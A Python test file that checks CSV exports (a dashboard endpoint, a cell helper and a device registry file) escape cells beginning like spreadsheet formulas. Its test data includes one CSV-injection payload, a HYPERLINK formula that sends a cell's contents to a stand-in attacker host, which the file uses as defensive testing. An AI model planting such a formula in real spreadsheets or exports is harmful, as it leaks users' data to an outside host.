"""Exports a spreadsheet cannot turn into formulas: every CSV the system writes goes
through core/csv_cells.py — the dashboard, the audit export (tests/test_api_audit.py)
and the registry file, which still reads back exactly as written."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from api.principal import Role
from core.csv_cells import FORMULA_STARTS, csv_writer, original_cell, safe_cell
from core.readings import DeviceType
from core.registry import RegistryRow, format_registry_csv, parse_registry_csv
from tests.api_helpers import api_world
from tests.view_data import NOW, alert, home

FORMULA_STREET = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_cells_starting_like_a_formula_are_written_as_text(start: str) -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([f"{start}1+2", "plain", -3.5, 7, "'quoted", None])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == [f"'{start}1+2", "plain", "-3.5", "7", "''quoted", ""]
    assert [original_cell(cell) for cell in row[:5]] == [f"{start}1+2", "plain", "-3.5", "7",
                                                          "'quoted"]  # fmt: skip
    assert safe_cell(-3.5) == -3.5  # a number is never a formula


async def test_a_street_named_like_a_formula_stays_text_in_the_dashboard_csv(
    db_url: str,
) -> None:
    async with api_world(db_url, start=NOW) as world:
        async with world.pool.acquire() as conn:
            await home(conn, "e1", FORMULA_STREET)
            await alert(conn, "e1", "k1", opened=NOW - timedelta(days=1), ack_min=5)
        admin = await world.bearer("root", Role.ADMIN)
        async with admin.get("/api/v1/dashboard.csv") as resp:
            assert resp.status == 200
            text = (await resp.read()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    streets = {r["name"] for r in rows if r["group"] == "street"}
    assert streets == {"'" + FORMULA_STREET}
    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r.values())


def test_the_registry_file_reads_back_exactly_as_written() -> None:
    rows = [
        RegistryRow("-h1", "-m1", DeviceType.WATER_METER, "=SUM(A1:A9)", "Asia/Shanghai"),
        RegistryRow("h2", "p2", DeviceType.PIR, "'kitchen", "Asia/Shanghai"),
        RegistryRow("h2", "s2", DeviceType.SMOKE, "@hall", "Asia/Shanghai"),
    ]
    text = format_registry_csv(rows)
    assert "\n'-h1,'-m1,water_meter,'=SUM(A1:A9)," in text
    assert parse_registry_csv(text, "Asia/Shanghai") == rows
